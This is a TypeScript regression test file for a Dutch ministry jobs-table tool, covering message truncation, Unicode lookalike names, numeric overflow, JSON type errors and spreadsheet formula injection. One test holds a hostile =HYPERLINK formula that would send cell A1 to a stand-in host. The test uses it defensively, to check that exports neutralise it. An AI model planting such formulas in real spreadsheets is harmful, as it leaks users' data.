/**
 * Bugs the fuzz tests found, each pinned by the smallest input that showed it
 * (rounding 3,5 → 3 is in afronding.test.ts).
 */
import { BanenFout, bouwTabel1, kort, leesGetal, verdeel } from "../../src/core";
import { verdeelFunctie } from "../../src/functions/functions";
import { leesInvoer, maakInvoer, type Raster } from "../../src/core/invoer/invoer";
import { csvTekst, leesCsv } from "../../src/cli/csv";
import { maakExcelToegang, type ExcelRun } from "../../src/taskpane/excel-toegang";
import { maakUitvoerPlan } from "../../src/taskpane/uitvoer-plan";

import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { main } from "../../src/cli/main";

const nep = require("../taskpane/fake-excel-host.js");

const GROOT = "x".repeat(100_000);

function raster(koppen: unknown[], rijen: unknown[][], blad = "Blad1"): Raster {
  return { blad, rijIndex: 0, kolomIndex: 0, koppen, rijen };
}

function fouten(g: ReturnType<typeof maakInvoer>): BanenFout[] {
  if (g.ok) throw new Error("verwacht fouten, kreeg een tabel");
  return g.fouten;
}

const MINISTERIES = ["ministerie", "fte", "formeel uren", "binnenwerk uren", "inleen uren", "toegedeeld"];

describe("messages show the value at fault, cut short, never half a character", () => {
  test("a 100.000-character cell gives a short message (was 100.089 characters, once per row)", () => {
    const f = fouten(leesInvoer({ kwartaal: "2023Q2", hoofd: raster(MINISTERIES, [["AZ", 10, 1, 1, 1, GROOT]]) }));
    expect(f).toHaveLength(1);
    expect(f[0]!.code).toBe("ONGELDIGE_KEUZE");
    expect(f[0]!.message).toBe(
      'Blad Blad1, rij 2, kolom toegedeeld (F2): "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx..." is geen geldige keuze; verwacht ja of nee.',
    );
  });

  test("the list of known ministries cuts each name (was the whole 100.000-character name)", () => {
    const fte = raster(["ministerie", "fte"], [[`AZ${GROOT}`, 10]], "Fte");
    const hoofd = raster(["ministerie", "soort dienstverband", "uren per week"], [["BZ", "formeel", 8]], "Personen");
    const f = fouten(leesInvoer({ kwartaal: "2023Q2", hoofd, fte, bevestigd: ["ONBEKENDE_MINISTERIENAAM"] }));
    expect(f.map((x) => x.code)).toEqual(["ONBEKEND_MINISTERIE"]);
    expect(f[0]!.message.length).toBeLessThan(200);
    expect(f[0]!.message).toContain("verwacht een van: AZxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx...");
  });

  test("kort cuts whole characters: an emoji is never split into a lone surrogate (was \\ud83d…)", () => {
    const emoji = "😀".repeat(50);
    expect(kort(emoji)).toBe(`${"😀".repeat(37)}...`);
    expect(kort("😀".repeat(40))).toBe("😀".repeat(40)); // 40 characters fit, although 80 UTF-16 units
    const melding = (() => {
      try {
        leesGetal(emoji);
      } catch (e) {
        return (e as BanenFout).message;
      }
      return "";
    })();
    expect(melding).toBe(`"${"😀".repeat(37)}..." is geen getal; verwacht een getal zoals 1.399 of 2,76.`);
  });

  test("a long header in the place of a message is cut too", () => {
    const kop = `formeel uren ${"y".repeat(5000)}`;
    const f = fouten(
      leesInvoer({
        kwartaal: "2023Q2",
        hoofd: raster(["ministerie", "fte", kop, "binnenwerk uren", "inleen uren"], [["AZ", 10, "veel", 1, 1]]),
      }),
    );
    expect(f[0]!.plaats.kolom!.length).toBeLessThanOrEqual(80);
    expect(f[0]!.message.length).toBeLessThan(250);
  });
});

describe("ministry names that look the same are the same ministry", () => {
  const tabel = (namen: string[]) =>
    leesInvoer({
      kwartaal: "2023Q2",
      bevestigd: ["ONBEKENDE_MINISTERIENAAM"],
      hoofd: raster(
        MINISTERIES.slice(0, 5),
        namen.map((n) => [n, 100, 10, 0, 0]),
      ),
    });

  test.each([
    ["a zero-width space", "AZ\u200b"],
    ["a word joiner", "AZ\u2060"],
    ["a soft hyphen", "A\u00adZ"],
    ["a byte order mark", "\ufeffAZ"],
    ["a non-breaking space and case", "\u00a0az"],
  ])("AZ and AZ with %s: DUBBEL_MINISTERIE (were two rows that both show AZ)", (_, tweede) => {
    const g = tabel(["AZ", tweede]);
    expect(fouten(g).map((f) => [f.code, f.plaats.cel])).toEqual([["DUBBEL_MINISTERIE", "A3"]]);
  });

  test("Financiën with a separate diaeresis (NFD) is Financiën: a duplicate in one table, a match between person rows and fte table", () => {
    const nfc = "Financiën";
    const nfd = nfc.normalize("NFD");
    expect(nfd).not.toBe(nfc);
    expect(fouten(tabel([nfc, nfd])).map((f) => f.code)).toEqual(["DUBBEL_MINISTERIE"]);
    const g = leesInvoer({
      kwartaal: "2023Q2",
      hoofd: raster(["ministerie", "soort dienstverband", "uren per week"], [[nfd, "formeel", 25.5]], "Personen"),
      fte: raster(["ministerie", "fte"], [[nfc, 100]], "Fte"),
    });
    // One name key (core/tabel1/ministeries): both spellings are Fin, the name Tabel 1 uses.
    expect(g.ok && g.invoer.ministeries[0]!.ministerie).toBe("Fin");
  });

  test("a name of invisible characters only is empty (was a ministry without a visible name)", () => {
    expect(fouten(tabel(["\u2060"])).map((f) => f.code)).toEqual(["LEEG_MINISTERIE"]);
  });

  test("a bidirectional override cannot make ZA look like AZ in the table", () => {
    const g = tabel(["AZ", "\u202eZA"]);
    expect(g.ok).toBe(true);
    const t = bouwTabel1(g.ok ? g.invoer : (null as never));
    expect(t.rijen.map((r) => r.naam)).toEqual(["AZ", "ZA"]);
  });

  test("bouwTabel1 (JSON input) uses the same rule", () => {
    const m = (ministerie: string) => ({ ministerie, doel: 1, formeel: 0, binnenwerk: 0, inleen: 0 });
    let fout: unknown;
    try {
      bouwTabel1({ kwartaal: "2023Q2", ministeries: [m("AZ"), m("az\u200b")] });
    } catch (e) {
      fout = e;
    }
    expect((fout as BanenFout).fouten.map((f) => f.message)).toEqual([
      'Rij 2, kolom ministerie: ministerie "az" komt dubbel voor (ook in rij 1).',
    ]);
  });
});

describe("cells too large for a number are an error at their row, never Infinity or a crash", () => {
  test("a doel of 5e-324 banen made realisatie % Infinity; now UITKOMST_TE_GROOT at the row", () => {
    const g = leesInvoer({
      kwartaal: "2023Q2",
      hoofd: raster(["ministerie", "doel", "formeel banen", "binnenwerk banen", "inleen banen"], [["AZ", 5e-324, 1, 0, 0]]),
    });
    expect(g.ok).toBe(true);
    let fout: unknown;
    try {
      bouwTabel1(g.ok ? g.invoer : (null as never));
    } catch (e) {
      fout = e;
    }
    expect(fout).toBeInstanceOf(BanenFout);
    const lijst = (fout as BanenFout).fouten;
    expect(lijst.map((f) => [f.code, f.plaats.rij, f.plaats.kolom])).toEqual([
      ["UITKOMST_TE_GROOT", 2, "Realisatie %"],
      ["UITKOMST_TE_GROOT", undefined, "Realisatie % (Totaal Rijk)"],
    ]);
    expect(lijst[0]!.message).toBe(
      "Rij 2, kolom Realisatie %: 2e+325% is te groot om exact in een tabel te tonen; controleer de fte, het doel en de uren (of banen) van deze rij.",
    );
  });

  test("values beyond 2^53 banen: an error, not a wrong total or a RangeError from sluitend rounding", () => {
    const rij = (naam: string) => ({ ministerie: naam, doel: 1e308, formeel: 1e308, binnenwerk: 0, inleen: 0 });
    for (const afronding of ["per-cel", "sluitend"] as const) {
      expect(() => bouwTabel1({ kwartaal: "2023Q2", ministeries: [rij("AZ"), rij("BZ")] }, afronding)).toThrow(BanenFout);
    }
  });
});

describe("user text never becomes a formula in what we write", () => {
  const HYPERLINK = '=HYPERLINK("https://x.invalid/?"&A1;"klik")';

  test("pane: a ministry named =HYPERLINK(…) is written with the text format (fake Excel host)", async () => {
    nep.leegmaken();
    const g = leesInvoer({
      kwartaal: "2023Q2",
      bevestigd: ["ONBEKENDE_MINISTERIENAAM"],
      hoofd: raster(MINISTERIES.slice(0, 5), [
        [HYPERLINK, 100, 10, 0, 0],
        ["+31", 50, 1, 1, 1],
        ["AZ", 1, 1, 1, 1],
      ]),
    });
    const plan = maakUitvoerPlan(bouwTabel1(g.ok ? g.invoer : (null as never)), { grafiek: "realisatie" });
    await maakExcelToegang((globalThis as unknown as { Excel: ExcelRun }).Excel).schrijf(plan);
    const blad = nep.blad("Tabel 1 2023Q2") as { waarden: unknown[][]; formaten: string[][] };
    const cellen = blad.waarden.flatMap((rij, r) => rij.map((w, k) => ({ w, f: blad.formaten[r]![k] })));
    const gevaarlijk = cellen.filter((c) => typeof c.w === "string" && /^[=+\-@]/.test(c.w));
    expect(gevaarlijk.length).toBeGreaterThanOrEqual(4); // two names in the table, two in the chart data
    expect(gevaarlijk.filter((c) => c.f !== "@")).toEqual([]);
    expect(cellen.find((c) => c.w === "AZ")!.f).toBe("General"); // other names keep their format
  });

  test("CSV out: a leading apostrophe, so Excel shows text; read back without it", () => {
    const tekst = csvTekst([
      ["ministerie", "doel"],
      [HYPERLINK, 5],
      ["@SOM(A1)", -1],
      ["-", 0],
      ["AZ", 1],
    ]);
    expect(tekst).toBe(`\uFEFFministerie;doel\r\n"'=HYPERLINK(""https://x.invalid/?""&A1;""klik"")";5\r\n'@SOM(A1);-1\r\n'-;0\r\nAZ;1\r\n`);
    expect(leesCsv(tekst, "t.csv").rijen).toEqual([
      [HYPERLINK, "5"],
      ["@SOM(A1)", "-1"],
      ["-", "0"],
      ["AZ", "1"],
    ]);
  });
});

describe("JSON input: a field of the wrong type is a Dutch error, not exit 70", () => {
  const map = fs.mkdtempSync(path.join(os.tmpdir(), "banen-regressie-"));
  afterAll(() => fs.rmSync(map, { recursive: true, force: true }));
  const ministerie = { ministerie: "AZ", fte: 485, formeel: 5, binnenwerk: 4, inleen: 0 };

  test.each([
    [
      "a voetnoot of 5 (was: m.voetnoot?.trim is not a function)",
      { ministeries: [{ ...ministerie, voetnoot: 5 }] },
      "bij ministeries[0].voetnoot een tekst",
    ],
    [
      "nietToegedeeld that is no list (was: forEach is not a function)",
      { ministeries: [ministerie], nietToegedeeld: 5 },
      "bij nietToegedeeld een lijst",
    ],
    [
      "a nietToegedeeld row that is null (was: reading 'rij' of null)",
      { ministeries: [ministerie], nietToegedeeld: [null] },
      'bij nietToegedeeld[0] een object met "omschrijving" als tekst',
    ],
    ["a totaalNaam of 5", { ministeries: [ministerie], totaalNaam: 5 }, "bij totaalNaam een tekst"],
    [
      'an object as fte (was: "[object Object]" in the message)',
      { ministeries: [{ ...ministerie, fte: { a: 1 } }] },
      "bij ministeries[0].fte een getal of een tekst met een getal",
    ],
  ])("%s", async (_, data, verwacht) => {
    const pad = path.join(map, "invoer-2023Q2.json");
    fs.writeFileSync(pad, JSON.stringify({ kwartaal: "2023Q2", ...data }));
    let fout = "";
    const code = await main(["tabel1", pad], { uit: () => undefined, fout: (t) => void (fout += t) });
    expect(code).toBe(2);
    expect(fout).toBe(`fout: Blad invoer-2023Q2.json: de inhoud is niet herkend; verwacht ${verwacht}.\n`);
  });
});

describe("BANEN.VERDEEL: a total beyond 2^53 is an error value, not a cell with Infinity", () => {
  test("400 ones as the total (was: Infinity in the result range)", () => {
    // An error value of the runtime in use (here the fake host's CustomFunctions.Error).
    const uit = verdeelFunctie("1".repeat(400), [[2.2250738585072014e-308]]) as unknown as { code: string; message: string };
    expect(Array.isArray(uit)).toBe(false);
    expect(uit.code).toBe("#VALUE!");
    expect(uit.message).toBe("Totaal: 1,111e+399 is te groot om exact mee te rekenen; verwacht hoogstens 9.007.199.254.740.991.");
  });

  test("the core says so too, for any total above Number.MAX_SAFE_INTEGER", () => {
    expect(() => verdeel("9007199254740992", [1, 1])).toThrow(/te groot om exact mee te rekenen/);
    expect(verdeel(Number.MAX_SAFE_INTEGER, [1]).aandelen).toEqual([Number.MAX_SAFE_INTEGER]);
  });
});
